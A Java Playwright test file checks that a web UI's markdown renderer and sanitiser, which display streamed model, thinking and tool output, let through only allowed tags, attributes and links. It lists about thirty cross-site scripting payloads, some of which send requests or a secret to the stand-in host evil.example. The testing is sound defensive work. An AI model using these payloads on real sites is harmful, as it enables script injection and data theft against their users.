package dev.sluice.relay.page;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/** Nothing that a model or a tool writes becomes more than text, permitted elements and permitted links. */
class HostileTextPageTest {
    @RegisterExtension
    static final Chromium chromium = new Chromium();

    private static final List<String> PAYLOADS = List.of(
            "<script>attacked()</script>",
            "<img src=x onerror=attacked()>",
            "<svg onload=attacked()><script>attacked()</script></svg>",
            "<iframe src=\"javascript:attacked()\"></iframe>",
            "<iframe srcdoc=\"<script>parent.attacked()</script>\"></iframe>",
            "<a href=\"javascript:attacked()\">x</a>",
            "<a href=\"JaVaScRiPt:attacked()\" onclick=attacked()>x</a>",
            "[x](javascript:attacked())",
            "[x](JAVASCRIPT&colon;attacked())",
            "[x](java\tscript:attacked())",
            "[x](&#106;avascript:attacked())",
            "[x](data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+)",
            "[x](vbscript:attacked())",
            "[x](/api/v1/stream \"t\" onmouseover=attacked())",
            "<javascript:attacked()>",
            "![x](javascript:attacked())",
            "![x\" onerror=\"attacked()](https://evil.example/p.png?secret)",
            "![x](https://evil.example/\"onerror=\"attacked().png \"t\\\" onload=\\\"attacked()\")",
            "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImF0dGFja2VkKCkiLz4=)",
            "<form action=\"https://evil.example\"><input name=a autofocus"
                    + " onfocus=attacked()><button>b</button></form>",
            "<style>*{background:url(https://evil.example)}</style><p"
                    + " style=\"background:url(https://evil.example)\">x</p>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=attacked()&gt;\">",
            "<noscript><p title=\"</noscript><img src=x onerror=attacked()>\">",
            "<base href=\"https://evil.example/\"><link rel=stylesheet href=//evil.example><meta http-equiv=refresh"
                    + " content=\"0;url=x\">",
            "<object data=\"javascript:attacked()\"></object><embed src=\"javascript:attacked()\">",
            "<p id=scroller name=location>clobber</p><img name=hljs><a id=marked href=https://evil.example>x</a>",
            "<details open ontoggle=attacked()><summary>x</summary></details><video src=x onerror=attacked()>",
            "```\"><img/src=x/onerror=attacked()>\nx\n```",
            "```html\n<img src=x onerror=attacked()></code></pre><script>attacked()</script>\n```",
            "`<img src=x onerror=attacked()>` | <b onmouseover=attacked()>",
            "[x]: javascript:attacked()\n\n[x] and [x][x]",
            "|a|\n|-|\n|<img src=x onerror=attacked()>|",
            "<template><script>attacked()</script></template><slot onslotchange=attacked()>");

    private static final String CHECK = """
        const tags = new Set(('p br hr h1 h2 h3 h4 h5 h6 strong em del code pre blockquote ul ol li table thead tbody tr '
          + 'th td a img input figure figcaption span button').split(' '));
        const attributes = new Set(('href title src alt align start class type checked disabled target rel '
          + 'tabindex').split(' '));
        const stage = document.getElementById('transcripts');
        const found = new Set();
        const check = (box, payload) => {
          for (const node of box.querySelectorAll('*')) {
            if (!tags.has(node.localName)) found.add(`<${node.localName}> by ${payload}`);
            for (const { name, value } of node.attributes) {
              const fine = !attributes.has(name) ? false
                : name === 'href' ? /^(https?|mailto):/.test(new URL(value, 'bad:').href)
                : name === 'src' ? /^data:image\\/(png|jpeg|gif|webp);base64,/.test(value)
                : name === 'class' ? /^(code|copy|language-[\\w+#.-]+|hljs-[\\w -]+)$/.test(value)
                : true;
              if (!fine) found.add(`${name}=${value} by ${payload}`);
            }
            if (node.localName === 'a' && node.hasAttribute('href')
                && node.rel !== 'noopener noreferrer nofollow') found.add(`rel by ${payload}`);
          }
        };
        let drawn = 0;
        """;

    private static final String DRAWN = "async (payloads) => {" + CHECK + """
          const { Markdown } = await import('/markdown.js');
          for (const payload of payloads) {
            for (let cut = 0; cut <= payload.length; cut++) {
              const before = ['', 'Text ', '- ', '> '][cut % 4];
              const box = document.createElement('div');
              stage.append(box); // in the document: what can act, acts
              const markdown = new Markdown(box);
              for (const step of [() => markdown.append(before + payload.slice(0, cut)),
                  () => markdown.append(payload.slice(cut)), () => markdown.finish()]) {
                step();
                check(box, payload);
                drawn++;
              }
              box.remove();
            }
          }
          await new Promise((done) => setTimeout(done, 50)); // what was to load has begun to
          return [drawn, ...found];
        }\
        """;

    /** Shows nothing yet. */
    private static final String SANITISED = """
        async (payloads) => {
          const { sanitise } = await import('/sanitise.js');
          window.sanitised = payloads.flatMap((payload) => Array.from({ length: payload.length + 1 },
            (_, cut) => [payload, sanitise(payload.slice(0, cut)), sanitise(payload.slice(cut))]));
          await new Promise((done) => setTimeout(done, 50));
        }\
        """;

    private static final String SHOWN = "async () => {" + CHECK + """
          for (const [payload, ...pieces] of window.sanitised) {
            const box = document.createElement('div');
            stage.append(box);
            box.append(...pieces);
            check(box, payload);
            drawn++;
            box.remove();
          }
          await new Promise((done) => setTimeout(done, 50));
          return [drawn, ...found];
        }\
        """;

    private ScriptedBackEnd server;
    private Page page;

    @BeforeEach
    void open() throws Exception {
        server = new ScriptedBackEnd();
        page = chromium.open(server.address());
    }

    @AfterEach
    void close() {
        server.close();
    }

    @Test
    void payloadsCutAtEveryPlace() {
        List<?> result = (List<?>) page.evaluate(DRAWN, PAYLOADS);
        assertThat(result).hasSize(1);
        assertThat((Integer) result.get(0)).isGreaterThan(5_000);
    }

    /** Markdown shows HTML as text, so that none comes to the sanitiser; which holds by itself. */
    @Test
    void payloadsThatReachTheSanitiser() {
        page.evaluate(SANITISED, PAYLOADS);
        // The purifier's own document's, which is never shown. In the console, the handlers' directive is script-src.
        chromium.forgive("style-src", "base-uri", "script-src-attr", "inline event handler");
        List<?> result = (List<?>) page.evaluate(SHOWN);
        assertThat(result).hasSize(1);
        assertThat((Integer) result.get(0)).isGreaterThan(1_500);
    }

    @Test
    void whatEveryFieldOfARunMaySay() throws Exception {
        page.locator("#prompt").fill(PAYLOADS.get(1));
        page.locator("#prompt").press("Enter");
        ScriptedRun run = server.run();
        run.begin();
        for (String payload : PAYLOADS) {
            String id = "t" + payload.hashCode();
            run.emit("message_delta", "index", 0, "text", payload + "\n\n")
                    .emit("message_delta", "index", 1, "thinking", payload)
                    .emit("tool_start", "id", id, "name", payload, "input", payload)
                    .emit("tool_progress", "id", id, "message", payload, "percentage", 10);
        }
        run.emit("tool_error", "id", "t" + PAYLOADS.get(0).hashCode(), "error", PAYLOADS.get(1));
        run.emit("stream_error", "error", PAYLOADS.get(1), "details", java.util.Map.of("retryable", false));
        page.locator("[role=alert]").waitFor();
        assertThat(page.evaluate("document.querySelectorAll('#transcripts"
                        + " :is(script,iframe,form,style,svg,object,img,b)').length"))
                .isEqualTo(0);
        page.reload();
        page.locator(".answer").waitFor();
    }
}
